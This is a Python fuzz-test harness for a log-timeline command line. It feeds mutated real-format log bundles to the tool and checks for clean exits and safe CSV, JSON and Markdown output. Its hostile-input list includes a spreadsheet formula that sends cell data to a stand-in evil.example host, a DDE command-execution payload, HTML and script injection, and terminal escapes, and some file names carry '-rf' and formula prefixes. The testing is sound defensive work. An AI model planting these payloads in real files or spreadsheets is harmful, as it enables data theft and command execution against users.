"""A fuzz harness for the whole command line: folders of real-format files, broken.

:func:`bundles` is a Hypothesis strategy for a bundle of log files as a post-incident
bundle really holds them: every registered format's own samples (klog, CoreDNS,
RabbitMQ, CircleCI, GitHub Actions and GitLab CI JSON, Kubernetes events and audit logs,
change logs), then mutated: cut short, random bytes, formats mixed in one file, odd names
(undecodable bytes, escape sequences, spaces, leading dashes, formula characters), odd
times (years 1 and 9999, the epoch, 30 February, leap seconds, offsets past 14 hours),
odd encodings (BOM, UTF-16, CR-only, NUL bytes), gzip whole or cut, hostile text (HTML,
Markdown images, CSV formulas, terminal escapes).

:func:`check_bundle` runs ``timeline parse`` and ``timeline report`` on a bundle and asserts
the rules every run must keep: no traceback; exit 0 with output, or exit 1 with one
``error:`` sentence; every line accounted for; the outputs parse (CSV reads back with the
same rows, every JSON line loads, the JSON report loads, the Markdown report has no live
image or link made of log text).

``tests/test_fuzz.py`` runs a few examples in the normal suite; a long run is::

    FUZZ_EXAMPLES=2000 PYTHONPATH=$PWD python -m pytest tests/test_fuzz.py -q -p no:cacheprovider
"""

from __future__ import annotations

import codecs
import csv
import gzip
import json
import os
import re
from pathlib import Path

from hypothesis import strategies as st
from typer.testing import CliRunner

import parsers
import timeline
from tests.lines import every_line_accounted
from timeline.cli import app

SAMPLES = sorted(
    {sample.text for parser in parsers.registry.all_parsers() for sample in parser.samples}
)
HOSTILE = [
    '<a href="http://evil.example/x">X</a><b>B</b>',
    "![t](http://evil.example/x.png)",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "\x1b[2J\x1b]0;pwned\x07",
    "<script>window.__pwned=1</script>",
    "| a | b |\r`code",
]
ODD_TIMES = [
    ("2023", "9999"),
    ("2023", "0001"),
    ("2023", "1970"),
    ("03-15", "02-30"),
    ("03-14", "02-29"),
    ("0314", "0229"),
    ("0314", "1231"),
    (":01.", ":60."),
    ("+00:00", "+25:00"),
    ("Z", "+14:45"),
    ("T18", "T25"),
]
NAMES = [
    "kube-proxy.log",
    "rabbit@rmq-0.log",
    "coredns-5d78c9869d-x2k4z.log",
    "jobs.json",
    "changes.csv",
    "events.json",
    "audit.log",
    "0.log",
]
ODD_NAME_PARTS = [b"", b" copy", b"\xff\xfe", b"\x1b[31m", b"-rf", b"=1+2", "ü日本".encode()]


@st.composite
def file_text(draw) -> bytes:
    """One file's bytes: one or two real samples, mutated."""
    parts = draw(st.lists(st.sampled_from(SAMPLES), min_size=1, max_size=2))
    text = "".join(parts)
    for old, new in draw(st.lists(st.sampled_from(ODD_TIMES), max_size=2)):
        text = text.replace(old, new, draw(st.integers(1, 3)))
    if draw(st.booleans()):
        lines = text.split("\n")
        at = draw(st.integers(0, len(lines)))
        lines.insert(at, draw(st.sampled_from(HOSTILE)))
        text = "\n".join(lines)
    data = text.encode()
    mutation = draw(
        st.sampled_from(
            ["none", "cut", "bytes", "bom", "utf16", "cr", "nul", "gzip", "gzip-cut", "empty"]
        )
    )
    if mutation == "cut":
        data = data[: draw(st.integers(0, len(data)))]
    elif mutation == "bytes":
        at = draw(st.integers(0, len(data)))
        data = data[:at] + draw(st.binary(min_size=1, max_size=40)) + data[at:]
    elif mutation == "bom":
        data = codecs.BOM_UTF8 + data
    elif mutation == "utf16":
        data = codecs.BOM_UTF16_LE + text.encode("utf-16-le")
    elif mutation == "cr":
        data = data.replace(b"\n", b"\r")
    elif mutation == "nul":
        at = draw(st.integers(0, len(data)))
        data = data[:at] + b"\x00" * draw(st.integers(1, 8)) + data[at:]
    elif mutation in ("gzip", "gzip-cut"):
        data = gzip.compress(data)
        if mutation == "gzip-cut":
            data = data[: draw(st.integers(10, max(len(data) - 1, 10)))]
    elif mutation == "empty":
        data = b""
    return data


@st.composite
def file_name(draw) -> bytes:
    name = draw(st.sampled_from(NAMES)).encode()
    stem, dot, ending = name.rpartition(b".")
    odd = draw(st.sampled_from(ODD_NAME_PARTS))
    return stem + odd + dot + ending


@st.composite
def bundles(draw) -> dict[bytes, bytes]:
    """A bundle: relative file names (bytes, maybe in a sub-folder) to their bytes."""
    files = draw(st.dictionaries(file_name(), file_text(), min_size=1, max_size=4))
    if draw(st.booleans()):
        first = next(iter(files))
        files[b"node-1/" + first] = files.pop(first)
    return files


def write_bundle(root: Path, files: dict[bytes, bytes]) -> None:
    for name, data in files.items():
        path = os.path.join(os.fsencode(root), name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as handle:
            handle.write(data[:-3] if name.endswith(b".gz") else data)


runner = CliRunner()


def _run(args: list[str]):
    result = runner.invoke(app, args, env={"COLUMNS": "400"})
    assert result.exception is None or isinstance(result.exception, SystemExit), (
        args,
        result.exception,
    )
    assert "Traceback" not in result.output
    assert result.exit_code in (0, 1), (args, result.exit_code, result.output)
    if result.exit_code == 1:
        errors = [line for line in result.stderr.splitlines() if line.startswith("error: ")]
        assert len(errors) == 1, result.stderr
    assert "\x1b" not in result.output, "a raw escape sequence reached the terminal"
    return result


def check_bundle(bundle: Path, out: Path) -> None:
    """Run the CLI on ``bundle`` and assert the rules every run keeps (see the module)."""
    loaded = timeline.read(bundle, cache=False)
    files = loaded.summary.files
    assert every_line_accounted(loaded), files.to_dicts()
    rows = loaded.events.height

    csv_out = out / "events.csv"
    result = _run(["parse", str(bundle), "-o", str(csv_out), "-q"])
    assert (result.exit_code == 0) == (rows > 0), (result.exit_code, rows, result.output)
    if rows:
        with csv_out.open(newline="", encoding="utf-8") as handle:
            read_back = list(csv.DictReader(handle))
        assert len(read_back) == rows
        for row in read_back:
            for cell in row.values():
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        jsonl = out / "events.jsonl"
        _run(["parse", str(bundle), "-o", str(jsonl), "-q"])
        lines = jsonl.read_text(encoding="utf-8").splitlines()
        assert len(lines) == rows and all(isinstance(json.loads(line), dict) for line in lines)

        report = out / "report.json"
        result = _run(["report", str(bundle), "-o", str(report), "-q"])
        if result.exit_code == 0:
            assert isinstance(json.loads(report.read_text(encoding="utf-8")), dict)
            markdown = out / "report.md"
            _run(["report", str(bundle), "-o", str(markdown), "-q"])
            text = re.sub(r"`[^`\n]*`", "", markdown.read_text(encoding="utf-8"))
            assert "](http://evil.example" not in text.replace("\\](http", "")
    assert sorted(p.name for p in out.iterdir() if p.name.startswith(".")) == []
